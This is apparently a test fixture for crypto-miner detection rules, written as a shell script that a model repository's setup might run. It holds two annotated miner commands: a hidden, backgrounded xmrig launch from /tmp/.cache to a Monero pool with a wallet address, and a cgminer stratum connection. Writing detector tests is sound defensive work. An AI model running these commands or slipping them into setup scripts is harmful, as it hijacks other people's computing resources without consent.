#!/bin/sh
# A miner started from a model repository's setup script (test fixture, never run).
cd /tmp/.cache

# ruleid: yara.crypto_miners.miner_cli_pool_args, yara.crypto_miners.mining_pool_host, yara.crypto_miners.miner_only_flags
nohup ./xmrig -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls --donate-level 1 >/dev/null 2>&1 &

# ruleid: yara.crypto_miners.stratum_pool_url
./cgminer-cuda --url=stratum+tcp://203.0.113.7:3333 --pass x
